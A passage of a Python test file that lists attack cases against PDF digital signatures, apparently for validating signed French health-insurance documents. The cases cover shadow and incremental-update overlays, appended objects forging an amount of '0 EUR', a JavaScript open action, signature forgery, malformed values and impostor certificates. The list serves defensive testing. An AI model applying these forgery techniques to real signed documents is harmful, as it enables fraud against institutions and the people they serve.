        Case(SHADOW, "surimpression-dans-la-revision-signee", in_signature_revision(overlay_page))
    ),
    Case(SHADOW, "cropbox-dans-la-revision-signee", in_signature_revision(crop_page)),
    Case(SHADOW, "annotation-dans-la-revision-signee", in_signature_revision(free_text)),
    Case(SHADOW, "widget-etab-agrandi", in_signature_revision(enlarge_etab_widget)),
    Case(
        SHADOW,
        "mediabox-coupee-revision-signee",
        in_signature_revision(page_boxes(0, (0, 200, 612, 792))),
    ),
    Case(
        SHADOW,
        "page-tournee-revision-signee",
        in_signature_revision(page_boxes(0, (0, 0, 612, 792), rotate=180)),
    ),
    Case(ISA, "mediabox-coupee", after(page_boxes(0, (0, 200, 612, 792)))),
    Case(
        SHADOW,
        "champ-ars-deplace-dans-la-revision-signee",
        in_signature_revision(cover_with_ars_field),
        ("ETAB", "CPAM"),
    ),
    Case(EAA, "texte-libre", after(free_text)),
    Case(EAA, "carre-blanc", after(white_square)),
    Case(SSA, "champ-ajoute-signe", sneaky_signature),
    Case(APPENDED, "objet-non-reference", trailing(b"\n99999 0 obj\n(Montant : 0 EUR)\nendobj\n")),
    Case(APPENDED, "revision-objet-non-reference", after(unreferenced_object)),
    Case(APPENDED, "revision-non-liee", unlinked_update),
    Case(APPENDED, "flux-de-2-mo", big_stream),
    Case(APPENDED, "revision-sautant-les-signatures", skip_signed_revisions),
    Case(ISA, "contenu-page-1-libere", free_page_content),
    Case(ISA, "javascript-a-l-ouverture", after(open_action)),
    Case(USF, "dictionnaire-de-signature-recopie", repoint_signature),
    Case(
        APPENDED,
        "donnees-en-fin-de-fichier",
        trailing(b"\n% Montant : 0 EUR\n" + bytes(range(256)) * 4),
    ),
    Case(METADATA, "info", after(set_info)),
    Case(METADATA, "xmp", after(set_xmp)),
    Case(METADATA, "needappearances", after(need_appearances)),
    Case(METADATA, "info-avec-dss", after(with_dss(set_info))),
    Case(ISA, "surimpression-avec-dss", after(with_dss(overlay_page))),
    Case(PADDING, "octets-non-nuls", contents_padding),
    Case(MALFORMED, "v-entier", field_value(lambda: generic.NumberObject(5))),
    Case(
        MALFORMED,
        "v-tableau",
        field_value(
            lambda: generic.ArrayObject([generic.NumberObject(1), generic.NumberObject(2)])
        ),
    ),
    Case(MALFORMED, "v-nom", field_value(lambda: _name("/Signe"))),
    Case(
        MALFORMED,
        "v-entier-champ-suivant",
        field_value(lambda: generic.NumberObject(5), "ARS"),
        ("ETAB", "CPAM"),
    ),
    Case(MALFORMED, "byterange-null", byte_range_value(b"null")),
    Case(MALFORMED, "byterange-chaines", strings_byte_range),
    Case(MALFORMED, "tableaux-imbriques-100000", deep_nesting()),
    Case(IMPOSTOR, "auto-signe", impostor("auto-signe")),
    Case(IMPOSTOR, "autre-racine", impostor("autre-racine")),
    Case(IMPOSTOR, "cle-d-une-autre-partie", other_party),
    Case(IMPOSTOR, "certificat-de-la-partie-cle-d-une-autre", certificate_with_wrong_key),
    Case(IMPOSTOR, "autre-etablissement-meme-racine", impostor("autre-etablissement"), ("ETAB",)),
    Case(
        IMPOSTOR,
        "etablissement-homonyme-meme-racine",
        impostor("etablissement-homonyme"),
        ("ETAB",),
    ),
    Case(IMPOSTOR, "autre-cpam-meme-racine", impostor("autre-cpam"), ("CPAM",)),
]
"""Every attack case; one line each."""
